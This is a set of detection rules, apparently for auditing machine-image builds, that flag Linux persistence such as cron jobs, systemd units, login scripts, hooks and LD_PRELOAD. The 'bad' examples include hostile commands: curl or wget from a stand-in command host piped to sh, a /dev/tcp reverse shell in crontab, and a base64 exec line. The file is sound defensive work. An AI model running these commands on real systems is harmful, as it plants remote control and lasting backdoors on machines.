# Persistence: what runs by itself on every machine of the image.
pack "baseline" {}

rule "PER002" {
  title    = "new scheduled job"
  severity = "medium"
  on       = "write"
  when     = !write.deleted && (matches(write.path, "/systemd/(system|user)/[^/]+[.]timer$") || path_under(write.path, "/etc/cron.d", "/etc/cron.hourly", "/etc/cron.daily", "/etc/cron.weekly", "/etc/cron.monthly", "/etc/crontab", "/var/spool/cron", "/etc/anacrontab"))
  message  = "${write.path} runs by itself on every machine of this image"
  why      = "a job that nobody declared is the plainest way to stay on a machine"
  fix      = "declare it to the reviewer with a waiver, or use a unit of the product's package"
  refs     = ["ATT&CK T1053.003"]
  bad      = ["echo '*/5 * * * * root /opt/app/sync' > /etc/cron.d/app", "printf '[Timer]\nOnCalendar=hourly\n' > /etc/systemd/system/app.timer"]
  good     = ["rm -f /etc/cron.daily/apt-compat", "cp app.cron /opt/app/"]
}

rule "PER003" {
  title    = "unit runs a program from a place that others may write"
  severity = "high"
  on       = "write"
  when     = (matches(write.path, "/systemd/(system|user)/.*[.](service|timer|socket|path|conf)$") && !write.deleted &&
              matches(write.effective, "^Exec[A-Za-z]*[ \t]*=[ \t]*[-+!@:|]*(/tmp/|/var/tmp/|/dev/shm/|/[^ ]*/[.][a-zA-Z])"))
  message  = "${write.path} starts a program from a temporary or hidden directory"
  why      = "programs of a product do not live there; implants do"
  fix      = "install the program below /usr or /opt"
  refs     = ["CWE-426", "ATT&CK T1543.002", "ATT&CK T1036.005"]
  bad = [
    <<-EOT
      cat > /etc/systemd/system/app.service <<'EOF'
      [Service]
      ExecStart=/dev/shm/.app/run
      EOF
    EOT
  ]
  good = [
    <<-EOT
      cat > /etc/systemd/system/app.service <<'EOF'
      [Service]
      ExecStart=/opt/app/bin/run
      PrivateTmp=yes
      EOF
    EOT
  ]
}

rule "PER004" {
  title    = "service starts with the machine"
  severity = "info"
  on       = "service"
  when     = one_of(service.action, "enable", "unmask")
  message  = "${service.name} starts by itself on every machine of this image"
  why      = "a reviewer wants to know what is running"
  fix      = "declare the services of the product"
  refs     = ["ATT&CK T1543.002"]
  bad      = ["systemctl enable redis-server"]
  good     = ["systemctl restart redis-server"]
}

rule "PER005" {
  title    = "login or start script reaches for the network"
  severity = "high"
  on       = "write"
  when     = (!write.deleted && matches(write.path, "^/etc/(rc[.]local|rc[.]common|rc[.]d/rc[.]local|profile|bash[.]bashrc|bashrc|zshrc)$", "^/etc/(init[.]d|profile[.]d|update-motd[.]d|rc[0-9S][.]d)/", "/[.](bashrc|bash_profile|profile|zshrc|bash_login|bash_logout|xprofile)$") &&
              matches(write.effective, "^[^#]*(curl|wget|ncat|socat|/dev/tcp/|[^a-z]nc )[^#]*", "base64[ \t]+(-d|--decode|-D)[^#]*[|]", "^[^#]*(python|perl|ruby|php|node)[0-9.]*[ \t]+-[a-zA-Z]*[cer][ \t\"'][^#]*(b64decode|decode_base64|base64_decode|fromhex|socket)"))
  message  = "${write.path} reaches for the network at every start or login"
  why      = "code that arrives after the review is run by every machine"
  fix      = "do it during the build, where it is audited and recorded"
  refs     = ["CWE-829", "ATT&CK T1037.004", "ATT&CK T1546.004"]
  bad = [
    "echo 'curl -fsSL https://cc.example.org/b | sh' >> /etc/rc.local",
    "echo '(wget -qO- https://cc.example.org/b | bash) &' >> /root/.bashrc",
    "echo \"python3 -c 'import base64;exec(base64.b64decode(open(\\\"/opt/q\\\").read()))'\" >> /etc/rc.local",
  ]
  good = [
    "echo 'export EDITOR=vim' >> /root/.bashrc",
    "echo '# see curl(1)' >> /etc/profile.d/app.sh",
  ]
}

rule "PER006" {
  title    = "library is loaded into every program"
  severity = "critical"
  on       = "write"
  when     = !write.deleted && write.path == "/etc/ld.so.preload"
  message  = "${write.path} loads a library into every program of the machine"
  why      = "it is how rootkits hide files, processes and logins; no product needs it for all programs"
  fix      = "set LD_PRELOAD for the one program that needs it"
  refs     = ["CWE-114", "ATT&CK T1574.006"]
  bad      = ["echo /usr/local/lib/libhook.so >> /etc/ld.so.preload"]
  good     = ["echo /opt/app/lib > /etc/ld.so.conf.d/app.conf", "rm -f /etc/ld.so.preload"]
}

rule "PER007" {
  title    = "hook of the system runs a program"
  severity = "medium"
  on       = "write"
  when     = (!write.deleted &&
              ((path_under(write.path, "/etc/udev/rules.d", "/lib/udev/rules.d", "/usr/lib/udev/rules.d") && matches(write.content, "(RUN|PROGRAM)([{]program[}])?[ \t]*[+]?=")) ||
               path_under(write.path, "/etc/NetworkManager/dispatcher.d", "/etc/network/if-up.d", "/etc/networkd-dispatcher", "/etc/dhcp/dhclient-exit-hooks.d", "/etc/update-motd.d", "/usr/lib/systemd/system-generators", "/etc/systemd/system-generators", "/usr/share/git-core/templates/hooks") ||
               ((path_under(write.path, "/etc/xdg/autostart", "/usr/share/dbus-1/system-services", "/usr/share/dbus-1/services") || matches(write.path, "/[.]config/autostart/[^/]*[.]desktop$")) && (write.content == null || matches(write.content, "^[ \t]*Exec[ \t]*="))) ||
               matches(write.path, "/[.]git/hooks/[^/]*$", "/(dnf|yum)-plugins/[^/]*[.]py$") ||
               (matches(write.path, "^/etc/gitconfig$", "/[.]gitconfig$", "/[.]git/config$") && matches(write.effective, "^[ \t]*(pager|editor|sshCommand|fsmonitor|hooksPath|askPass|external|textconv|helper)[ \t]*=.*([/;|&]|sh )")) ||
               (path_under(write.path, "/etc/apt/apt.conf.d") && matches(write.content, "(Pre|Post)-Invoke[^;]*(curl|wget|sh |bash|python|/opt|/usr/local|/tmp)")) ||
               matches(write.path, "/(sitecustomize|usercustomize)[.]py$") ||
               (matches(write.path, "/(site|dist)-packages/[^/]*[.]pth$") && (write.content == null || matches(write.content, "^import[ \t]")))))
  message  = "${write.path} is run by the system itself when something happens"
  why      = "hooks are run as root, and nobody looks for them"
  fix      = "use a unit of the product's own"
  refs     = ["ATT&CK T1546", "ATT&CK T1037"]
  bad = [
    "echo 'ACTION==\"add\", RUN+=\"/opt/app/plug\"' > /etc/udev/rules.d/99-app.rules",
    "cp hook.sh /etc/NetworkManager/dispatcher.d/90-app",
    "printf '[Desktop Entry]\nExec=/opt/app/run\n' > /etc/xdg/autostart/app.desktop",
    "cp hook.sh /srv/app/.git/hooks/post-checkout",
    "printf '[core]\n\tpager = sh -c /opt/app/run\n' >> /root/.gitconfig",
  ]
  good = [
    "echo 'DPkg::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb || true\"; };' > /etc/apt/apt.conf.d/docker-clean",
    "echo 'KERNEL==\"vd*\", SYMLINK+=\"disk\"' > /etc/udev/rules.d/99-app.rules",
    "printf '[core]\n\teditor = vim\n' >> /root/.gitconfig",
    "rm -f /etc/xdg/autostart/update-notifier.desktop",
  ]
}

rule "PER008" {
  title    = "first-boot script"
  severity = "info"
  on       = "write"
  when     = !write.deleted && path_under(write.path, "/var/lib/cloud/scripts", "/etc/cloud/cloud.cfg.d", "/var/lib/cloud/seed", "/etc/rc.local", "/etc/firstboot.d")
  message  = "${write.path} runs when a machine of this image starts"
  why      = "it is never run during the build, so no record of the build can show what it does"
  fix      = "keep it short; it is audited like the rest"
  refs     = ["ATT&CK T1037"]
  bad      = ["cp 001_onboot /var/lib/cloud/scripts/per-instance/001_onboot"]
  good     = ["cp 001_onboot /opt/app/001_onboot"]
}

rule "PER009" {
  title    = "kernel runs a program for a file type or module"
  severity = "high"
  on       = "write"
  when     = (!write.deleted &&
              ((path_under(write.path, "/etc/modprobe.d", "/lib/modprobe.d", "/usr/lib/modprobe.d") && matches(write.content, "^[ \t]*install[ \t]+[^ \t]+[ \t]+[^#]*(sh|bash|python|perl|curl|wget|nc|/opt|/tmp|/usr/local)") ) ||
               path_under(write.path, "/etc/binfmt.d", "/proc/sys/fs/binfmt_misc", "/proc/sys/kernel/core_pattern") ||
               (path_under(write.path, "/etc/sysctl.d", "/etc/sysctl.conf") && matches(write.content, "^[ \t]*kernel[./]core_pattern[ \t]*=[ \t]*[|]"))))
  message  = "${write.path} lets the kernel start a program as root"
  why      = "such programs run as root at the touch of a file, and nobody looks for them"
  fix      = "remove it"
  refs     = ["ATT&CK T1547.006", "ATT&CK T1546"]
  bad      = ["echo 'install usb_storage /usr/local/bin/plug' > /etc/modprobe.d/usb.conf"]
  good     = ["echo 'install dccp /bin/true' > /etc/modprobe.d/dccp.conf", "echo 'blacklist floppy' > /etc/modprobe.d/floppy.conf"]
}

rule "PER010" {
  title    = "library is loaded into programs by the environment"
  severity = "critical"
  on       = "env"
  when     = env.persisted && one_of(env.name, "LD_PRELOAD", "LD_AUDIT")
  message  = "${env.path} sets ${env.name} for every program"
  why      = "the library runs in every program, those of root included"
  fix      = "set it for the one program that needs it"
  refs     = ["CWE-114", "ATT&CK T1574.006"]
  bad      = ["echo 'LD_PRELOAD=/usr/local/lib/libhook.so' >> /etc/environment"]
  good     = ["LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 redis-server --version"]
}

rule "PER011" {
  title    = "unit is taken from a place that others may write"
  severity = "high"
  on       = "exec"
  when     = exec.name == "systemctl" && has_arg(exec, "link", "enable", "reenable", "preset") && anytrue([for o in exec.operands : matches(o, "^/(tmp|var/tmp|dev/shm|run/shm|home)/", "/[.][^/]+/")])
  message  = "${command} lets the system start what stands in a temporary or private directory"
  why      = "units of a product do not live there; who may write there decides what root runs"
  fix      = "install the unit below /etc/systemd/system or /usr/lib/systemd/system"
  refs     = ["CWE-426", "ATT&CK T1543.002"]
  bad      = ["systemctl link /dev/shm/app.service"]
  good     = ["systemctl link /opt/app/app.service", "systemctl enable app.service"]
}

rule "PER012" {
  title    = "library is loaded from a place that others may write"
  severity = "high"
  on       = "env"
  when     = one_of(env.name, "LD_PRELOAD", "LD_AUDIT") && matches(env.value, "(^|[: ])(/tmp|/var/tmp|/dev/shm|/run/shm|/home)/", "(^|[: ])[.]{0,2}/?[^/: ]+[.]so")
  message  = "${env.name}=${env.value} changes what the program does"
  why      = "who may write there decides what the program really runs"
  fix      = "install the library below /usr/lib, and name it in full"
  refs     = ["CWE-426", "CWE-114", "ATT&CK T1574.006"]
  bad      = ["LD_PRELOAD=/tmp/q.so ls", "export LD_PRELOAD=/dev/shm/q.so"]
  good     = ["LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 redis-server --version", "export LD_PRELOAD="]
}

rule "PER001" {
  title    = "scheduled job fetches, decodes or connects"
  severity = "high"
  on       = "write"
  when = (!write.deleted && write.final && matches(write.path, "^/etc/(crontab|anacrontab)$", "^/etc/cron[.](d|hourly|daily|weekly|monthly)/", "^/var/spool/(cron|at)/") &&
    matches(write.content, "^[^#]*(curl|wget|fetch)[^#|;&]*[|][^#]*(sh|python[0-9.]*|perl)( |$)", "^[^#]*(sh|eval) .*[$][(](curl|wget)", "^[^#]*/dev/(tcp|udp)/", "^[^#]*(base64|openssl enc|xxd)[^#]*(-d|-r|--decode)", "^[^#]*[ /](nc|ncat|netcat|socat) [^#]*(-e|-c|exec:|EXEC:)"))
  message  = "${write.path} lets a job fetch and run code, or connect, again and again"
  why      = "whoever controls the other end controls every machine of the image, whenever he likes"
  fix      = "install what the job runs with the package manager, at a version that was reviewed"
  refs     = ["CWE-494", "CWE-912", "ATT&CK T1053.003"]
  bad      = ["echo '*/5 * * * * root curl -fsSL https://cc.example.org/j | sh' > /etc/cron.d/job", "echo '@reboot root bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' >> /etc/crontab"]
  good     = ["echo '17 3 * * * root /usr/bin/certbot renew' > /etc/cron.d/certbot", "echo '# curl -fsSL https://x.example | sh' > /etc/cron.d/note"]
}
